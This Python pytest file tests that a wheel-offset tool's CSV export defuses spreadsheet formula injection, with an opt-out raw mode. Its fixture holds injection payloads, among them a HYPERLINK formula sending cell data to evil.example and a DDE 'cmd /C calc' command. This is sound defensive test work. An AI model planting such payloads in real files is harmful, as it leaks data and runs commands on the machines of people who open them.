"""Issue 11 item 6: CSV export defuses cells a spreadsheet would run as formulas.

A vehicle whose site-given names start with ``=``, ``+``, ``-``, ``@``, tab
and carriage return is stored in a real SQLite file and exported by the real
CLI: each such text cell gets a ``'`` in front, numbers keep their sign, and
``--csv-raw`` (or ``CWO_CSV_RAW``) writes everything exactly as stored.
"""

from __future__ import annotations

import csv
import time
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from custom_wheel_offset.cli import cli


def sqlite_file(db_url: str) -> str:
    return db_url.removeprefix("sqlite:///")


HOSTILE = {
    "make": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "model": "+1+cmd|' /C calc'!A0",
    "trim": "-2+3",
    "drive": "@SUM(1+1)",
    "lug_type": "\tTab",
    # A lone CR: quoted only because the export ends its lines with CRLF
    # (RFC 4180); with "\n" line ends the csv module leaves it bare and the
    # row splits for any reader.
    "lug_size": "\rCR",
    "chassis_id": "plain",
    "bolt_pattern_mm": "5x114.3",
}


@pytest.fixture
def hostile_db(db: Any, sqlite_url: str) -> str:
    from custom_wheel_offset.storage.schema import vehicles

    with db.begin() as conn:
        conn.execute(
            vehicles.insert().values(
                year=2024,
                vehicle_type="Car",
                front_stock_offset=-12.0,
                rear_stock_offset=45.0,
                hub_bore_mm=64.1,
                raw_json="{}",
                fetched_at=time.time(),
                **HOSTILE,
            )
        )
    return sqlite_url


def _export(db_url: str, *extra: str, env: dict[str, str] | None = None) -> dict[str, str]:
    out = Path(sqlite_file(db_url)).with_suffix(".csv")
    args = ["export", "--what", "vehicles", "--format", "csv", "--db", db_url, "--out", str(out)]
    result = CliRunner().invoke(cli, [*args, *extra], env=env, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 1, rows
    return rows[0]


def test_formula_cells_get_a_quote_and_numbers_keep_their_sign(hostile_db: str) -> None:
    row = _export(hostile_db)
    for column, value in HOSTILE.items():
        expected = value if column in ("chassis_id", "bolt_pattern_mm") else "'" + value
        assert row[column] == expected, column
    assert row["front_stock_offset"] == "-12.0"
    assert row["rear_stock_offset"] == "45.0"
    assert row["year"] == "2024"


@pytest.mark.parametrize(
    ("extra", "env"),
    [
        pytest.param(("--csv-raw",), None, id="--csv-raw"),
        pytest.param((), {"CWO_CSV_RAW": "1"}, id="CWO_CSV_RAW"),
    ],
)
def test_csv_raw_writes_cells_as_stored(
    hostile_db: str, extra: tuple[str, ...], env: dict[str, str] | None
) -> None:
    row = _export(hostile_db, *extra, env=env)
    for column, value in HOSTILE.items():
        assert row[column] == value, column
    assert row["front_stock_offset"] == "-12.0"


def test_jsonl_is_not_touched(hostile_db: str) -> None:
    import json

    result = CliRunner().invoke(
        cli, ["export", "--what", "vehicles", "--db", hostile_db], catch_exceptions=False
    )
    assert result.exit_code == 0, result.output
    record = json.loads(result.stdout.splitlines()[0])
    assert {k: record[k] for k in ("make", "model", "trim", "drive")} == {
        k: HOSTILE[k] for k in ("make", "model", "trim", "drive")
    }
